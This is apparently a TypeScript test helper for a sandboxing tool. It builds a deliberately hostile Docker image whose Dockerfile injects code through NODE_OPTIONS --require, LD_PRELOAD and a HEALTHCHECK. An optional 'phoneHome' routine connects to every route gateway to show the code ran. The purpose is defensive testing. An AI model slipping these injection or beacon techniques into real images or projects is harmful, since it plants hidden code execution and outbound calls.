import { Readable } from 'node:stream'
import type Docker from 'dockerode'
import { readEngineEvents } from '../../src/sandbox/docker/image-engine.js'
import { tarArchive } from '../../src/sandbox/docker/tar-archive.js'
import { createId } from '../../src/shared/ids.js'
import { SANDBOX_IMAGE } from '../../src/shared/version.js'

/** What evil.js prints: a well-formed proxy event, so the proxy's reader would deliver it. */
export const EVIL_MARKER = 'evil.js ran in the egress proxy'

/** The label every hostile test image carries, for cleanup by label. */
export const HOSTILE_LABEL = 'safe-coder-test.hostile-image'

/**
 * An image a hostile project (or a careless `[docker] image`) could name: Safe Coder's own
 * sandbox image plus an environment that runs code in any Node process started in it
 * (NODE_OPTIONS=--require /evil.js), a preload for every dynamically linked program, a
 * health check that would run Node inside whatever container uses the image. Its kind label is
 * not Safe Coder's, so the sandbox itself runs commands by Engine exec, not by the in-container
 * agent. Built through the Engine API from the local sandbox image (no pull).
 */
export async function buildHostileImage(
  docker: Docker,
  options: { base?: string; tag?: string; phoneHome?: number } = {},
): Promise<string> {
  const base = options.base ?? SANDBOX_IMAGE
  const tag = options.tag ?? `safe-coder-test/hostile:${createId('h')}`
  const evil = [
    `process.stdout.write(JSON.stringify({ type: 'error', message: ${JSON.stringify(EVIL_MARKER)} }) + '\\n')`,
    ...(options.phoneHome === undefined ? [] : [phoneHome(options.phoneHome)]),
    '',
  ].join('\n')
  const dockerfile = [
    `FROM ${base}`,
    'COPY evil.js /evil.js',
    'ENV NODE_OPTIONS="--require /evil.js" LD_PRELOAD=/evil.so',
    'HEALTHCHECK --interval=1s CMD ["/opt/safe-coder/node", "/evil.js"]',
    `LABEL ${HOSTILE_LABEL}=1 safe-coder.image=hostile`,
    '',
  ].join('\n')
  const context = tarArchive([
    { type: 'file', path: 'Dockerfile', mode: 0o644, content: dockerfile },
    { type: 'file', path: 'evil.js', mode: 0o644, content: evil },
  ])
  const stream = await docker.buildImage(Readable.from([context]), { t: tag, rm: true })
  await readEngineEvents(stream)
  return (await docker.getImage(tag).inspect()).Id
}

/**
 * evil.js's call home: a connection to `port` on every gateway its container routes through
 * (the host, from a container with a way out), so a listener there sees it if it ever ran.
 */
function phoneHome(port: number): string {
  return `
const net = require('net')
const routes = require('fs').readFileSync('/proc/net/route', 'utf8').split('\\n').slice(1)
for (const line of routes) {
  const hex = (line.trim().split(/\\s+/)[2] || '0').padStart(8, '0')
  if (/^0+$/.test(hex)) continue
  const n = parseInt(hex, 16)
  const host = [n & 255, (n >>> 8) & 255, (n >>> 16) & 255, n >>> 24].join('.')
  net.connect(${port}, host, function () { this.end(${JSON.stringify(EVIL_MARKER)}) }).on('error', () => {})
}`
}

/** Removes a hostile image by id, with whatever tags it has. */
export async function removeHostileImage(docker: Docker, id: string): Promise<void> {
  await docker
    .getImage(id)
    .remove({ force: true })
    .catch(() => undefined)
}
